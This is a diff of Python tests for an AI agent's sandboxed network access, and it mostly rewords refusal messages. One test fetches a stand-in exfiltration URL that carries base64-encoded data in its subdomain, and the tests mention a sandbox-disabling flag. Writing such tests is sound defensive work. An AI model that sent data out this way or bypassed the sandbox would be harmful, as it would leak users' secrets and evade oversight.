@@ -75,15 +75,15 @@ async def test_allowed_domains_are_reached_and_others_asked_about(tmp_path, reje
     (tmp_path / "work" / "fetch.py").write_text(FETCH)
     out = await bash(ctx, reject, f"python3 fetch.py http://127.0.0.1:{port}/allowed http://localhost:{port}/refused")
     assert "hello from upstream /allowed" in out.text, out.text
-    assert "403 jupyter-agent sandbox: the user refused the connection to localhost." in out.text
+    assert "403 jupyter-agent sandbox: the connection to localhost was not approved:" in out.text
     assert seen == ["/allowed"]
     [(tool, question)] = reject.asks  # the command itself ran unasked; the new host was asked about
     assert tool == "Bash" and f"localhost (port {port})" in question.message
     assert f"this machine or its local network: whatever listens on port {port} runs outside" in question.message
     assert question.suggestions == ()  # no "Always allow" for this machine
-    assert f"Network requests the sandbox refused (the program got HTTP 403):\nlocalhost:{port}: the user refused" in out.text
+    assert f"Network requests the sandbox refused (the program got HTTP 403):\nlocalhost:{port}: the connection to localhost was not approved" in out.text
     failed = await bash(ctx, reject, f"python3 fetch.py http://localhost:{port}/again; exit 1")
-    assert "refused the connection" in failed.text and "dangerouslyDisableSandbox: true (the user" not in failed.text
+    assert "was not approved" in failed.text and "dangerouslyDisableSandbox: true (the user" not in failed.text
     (tmp_path / "work" / "tunnel.py").write_text(TUNNEL)
     tunnel = await bash(ctx, reject, f"python3 tunnel.py {port}")
     assert "tunnel: hello from upstream /tunnelled" in tunnel.text, tunnel.text
@@ -126,7 +126,7 @@ async def test_a_name_is_not_looked_up_before_it_is_allowed(tmp_path, reject, bw
     (tmp_path / "work" / "fetch.py").write_text(FETCH)
     out = await bash(ctx, reject, "python3 fetch.py http://c2VjcmV0.exfil.example/ http://other.example/")
     assert "c2vjcmv0.exfil.example is in sandbox.network.deniedDomains" in out.text  # names are case-free
-    assert "the user refused the connection to other.example" in out.text
+    assert "the connection to other.example was not approved" in out.text
     assert looked_up == []  # neither name reached DNS (a query alone can carry data out)
 
 
@@ -190,7 +190,7 @@ async def test_a_background_commands_refused_connections_end_its_output(tmp_path
     started = await bash(ctx, reject, f"python3 fetch.py http://localhost:{port}/bg", run_in_background=True)
     task_id = started.result.data.background_task_id
     result = await call(ctx, reject, "TaskOutput", {"task_id": task_id, "block": True, "timeout": 30000})
-    assert "403 jupyter-agent sandbox: the user refused the connection to localhost" in result.text, result.text
+    assert "403 jupyter-agent sandbox: the connection to localhost was not approved" in result.text, result.text
     assert f"Network requests the sandbox refused (the program got HTTP 403):\nlocalhost:{port}" in result.text
     assert seen == []
 
